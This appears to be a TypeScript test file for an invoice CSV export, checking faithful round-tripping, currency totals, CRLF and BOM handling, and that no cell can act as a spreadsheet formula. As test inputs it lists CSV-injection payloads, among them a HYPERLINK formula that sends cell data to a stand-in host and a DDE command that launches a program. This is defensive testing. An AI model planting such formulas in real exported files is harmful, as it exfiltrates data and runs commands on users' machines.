// The invoices as CSV: what is read back is what was written, no cell is a formula, and the money adds up.
import * as fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { COLUMNS } from '../../../core/reports/columns.ts';
import { disarmed } from '../../../core/reports/csv-line.ts';
import { invoicesCsv } from '../../../core/reports/csv.ts';
import type { FailureRow } from '../../../core/reports/rows.ts';
import { exponentOf } from '../../../core/money.ts';
import { anyCharacter } from '../../support/characters.ts';
import { caseOf } from '../../support/reports.ts';
import { casesOfAYear } from '../../support/year-of-failures.ts';

/** A small reader of RFC 4180, which takes nothing that the RFC does not. */
const parseCsv = (text: string): string[][] => {
  const lines: string[][] = [];
  let line: string[] = [];
  let at = 0;
  while (at < text.length) {
    const cell = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/y;
    cell.lastIndex = at;
    const found = cell.exec(text);
    if (found === null) throw new Error(`no cell at ${at}: ${text.slice(at, at + 40)}`);
    line.push(found[1]?.replaceAll('""', '"') ?? found[2] ?? '');
    if (found[3] === '\r\n') {
      lines.push(line);
      line = [];
    }
    at = cell.lastIndex;
  }
  return lines;
};

type Read = Record<string, string>;

const readBack = (csv: string): Read[] => {
  expect(csv.startsWith('\uFEFF')).toBe(true);
  const [head = [], ...lines] = parseCsv(csv.slice(1));
  return lines.map((cells) => {
    expect(cells).toHaveLength(head.length);
    return Object.fromEntries(head.map((name, i) => [name, cells[i] ?? '']));
  });
};

/** What a spreadsheet begins a formula with. */
const TRIGGER = /^\s*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]|^[\t\r\n]/;

/** What a program that reads the file does to have the text back. */
const armed = (cell: string): string =>
  cell.startsWith("'") && TRIGGER.test(cell.replace(/^'+/, '')) ? cell.slice(1) : cell;

const minorOf = (decimal: string, currency: string): number =>
  Math.round(Number(decimal) * 10 ** exponentOf(currency));

const [SAMPLE] = caseOf('a', [{ outcome: 'recovered' }]).rows;
const rowOf = (changes: Partial<FailureRow>): FailureRow => {
  if (SAMPLE === undefined) throw new Error('there is no row');
  return { ...SAMPLE, ...changes };
};
const only = (changes: Partial<FailureRow>): Read =>
  readBack(invoicesCsv([rowOf(changes)]))[0] ?? expect.unreachable('there is a line');

const someText = fc.oneof(
  fc.string({ unit: anyCharacter, minLength: 1 }),
  fc.string({ unit: fc.constantFrom(...Array.from('=+-@\t\r\n",;\' aÄ鈴ب')), minLength: 1 }),
);
const anId = fc.string({
  unit: fc.constantFrom(...Array.from('=+-@",;_\'aB1')),
  minLength: 1,
  maxLength: 12,
});
const someMinor = fc.integer({ min: -999_999_999_999, max: 999_999_999_999 });

const someRow: fc.Arbitrary<FailureRow> = fc
  .record({
    number: fc.option(someText),
    because: someText,
    why: someText,
    campaignId: fc.option(someText),
    planIds: fc.array(anId, { maxLength: 3 }),
    currency: fc.constantFrom('EUR', 'JPY', 'KWD'),
    failedMinor: someMinor,
    openMinor: someMinor,
    refundedMinor: someMinor,
    periodMinor: fc.option(someMinor),
  })
  .map(rowOf);

describe('what is read back', () => {
  test('is what was written, whatever the texts and the amounts are', () => {
    fc.assert(
      fc.property(fc.array(someRow, { maxLength: 5 }), (rows) => {
        const lines = readBack(invoicesCsv(rows));
        const back = lines.map((line) => ({
          number: armed(line['number'] ?? '') || null,
          because: armed(line['reason'] ?? ''),
          why: armed(line['why'] ?? ''),
          campaignId: armed(line['campaign'] ?? '') || null,
          planIds: armed(line['plans'] ?? '')
            .split(' ')
            .filter(Boolean),
          failedMinor: minorOf(line['failed'] ?? '', line['currency'] ?? ''),
          openMinor: minorOf(line['open'] ?? '', line['currency'] ?? ''),
          refundedMinor: minorOf(line['refunded'] ?? '', line['currency'] ?? ''),
          periodMinor:
            line['list_price'] === '' ? null : minorOf(line['list_price'] ?? '', line['currency'] ?? ''),
        }));
        expect(back).toEqual(
          rows.map(
            ({
              number,
              because,
              why,
              campaignId,
              planIds,
              failedMinor,
              openMinor,
              refundedMinor,
              periodMinor,
            }) => ({
              number,
              because,
              why,
              campaignId,
              planIds,
              failedMinor: failedMinor + 0,
              openMinor: openMinor + 0,
              refundedMinor: refundedMinor + 0,
              periodMinor,
            }),
          ),
        );
      }),
    );
  });

  test('has the provider’s ids to the letter, times in UTC, and what is not known empty', () => {
    const line = only({ campaignId: null, cause: null, afterMail: null, settledAt: null, number: null });
    expect(line).toMatchObject({
      connection: 'stripe',
      customer: 'cus_a',
      case: 'case_a',
      invoice: 'in_a_0',
      failed_at: '2026-03-01T09:00:00.000Z',
      billed_every: '1 month',
    });
    for (const name of ['campaign', 'cause', 'last_mail', 'settled_at', 'number'])
      expect(line[name]).toBe('');
  });

  test('ends every line with CRLF, the head too, and begins with the mark by which Excel knows UTF-8', () => {
    const csv = invoicesCsv([rowOf({ number: '鈴木' })]);
    expect(csv.replaceAll('\r\n', '')).not.toMatch(/[\r\n]/);
    expect(csv.split('\r\n')).toHaveLength(3);
    expect([...Buffer.from(csv).subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(csv.split('\r\n')[0]?.slice(1)).toBe(COLUMNS.map(({ name }) => name).join(','));
  });
});

describe('money', () => {
  test.each([
    ['EUR', 1_234_567, '12345.67'],
    ['JPY', 1_234_567, '1234567'],
    ['KWD', 1_234_567, '1234.567'],
    ['EUR', -5, '-0.05'],
    ['USD', 999_999_999_999, '9999999999.99'],
  ])('of %s in %i minor units is %s, a number of its own beside the currency', (currency, minor, text) => {
    expect(only({ currency, failedMinor: minor })).toMatchObject({ currency, failed: text });
  });

  test('adds up line by line and by currency to what the rows hold', () => {
    const rows = casesOfAYear(300).flatMap((one) => one.rows);
    const sums = new Map<string, number[]>();
    for (const line of readBack(invoicesCsv(rows))) {
      const currency = line['currency'] ?? '';
      const [failed = 0, ...parts] = ['failed', 'recovered', 'withdrawn', 'lost', 'open'].map((name) =>
        minorOf(line[name] ?? '', currency),
      );
      expect(parts.reduce((a, b) => a + b, 0)).toBe(failed);
      sums.set(
        currency,
        (sums.get(currency) ?? [0, 0, 0, 0, 0]).map((sum, i) => sum + ([failed, ...parts][i] ?? 0)),
      );
    }
    expect(sums.size).toBe(4);
    for (const [currency, told] of sums) {
      const own = rows.filter((row) => row.currency === currency);
      const held = (
        ['failedMinor', 'recoveredMinor', 'withdrawnMinor', 'lostMinor', 'openMinor'] as const
      ).map((name) => own.reduce((sum, row) => sum + row[name], 0));
      expect(told).toEqual(held);
    }
  });
});

describe('no cell is a formula', () => {
  test.each([
    '=1+1',
    '+1',
    '-1',
    '@SUM(A1)',
    '\t=1',
    '\r=1',
    '\n=1',
    '  =1',
    '＝1+1',
    '＠SUM(A1)',
    '=HYPERLINK("https://evil.example?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
  ])('%j has an apostrophe before it, and its own text after that', (text) => {
    const line = only({ number: text });
    expect(line['number']).toBe(`'${text}`);
    expect(armed(line['number'] ?? '')).toBe(text);
  });

  test.each(["'=1", "''-1", "'t Hart"])(
    '%j, which has one already, is told from one that was given it',
    (text) => {
      expect(armed(only({ number: text })['number'] ?? '')).toBe(text);
    },
  );

  test.each([';=1', 'a\t=1', 'a;b'])(
    '%j is no cell more to a program that parts cells at ; and tabs too',
    (text) => {
      // LibreOffice does by default. In quotes it is one cell, which begins with none of these.
      expect(invoicesCsv([rowOf({ number: text })])).toContain(`"${disarmed(text)}"`);
      expect(only({ number: text })['number']).toBe(disarmed(text));
    },
  );

  test('whatever the text is: only an amount begins with a minus', () => {
    fc.assert(
      fc.property(someText, (text) => {
        expect(disarmed(text)).not.toMatch(TRIGGER);
      }),
    );
    const amounts = new Set(COLUMNS.flatMap(({ kind, name }) => (kind === 'money' ? [name] : [])));
    fc.assert(
      fc.property(someRow, (row) => {
        const [line = {}] = readBack(invoicesCsv([row]));
        for (const [name, cell] of Object.entries(line))
          expect(cell).not.toMatch(amounts.has(name) ? /[^\d.-]/ : TRIGGER);
      }),
    );
  });
});
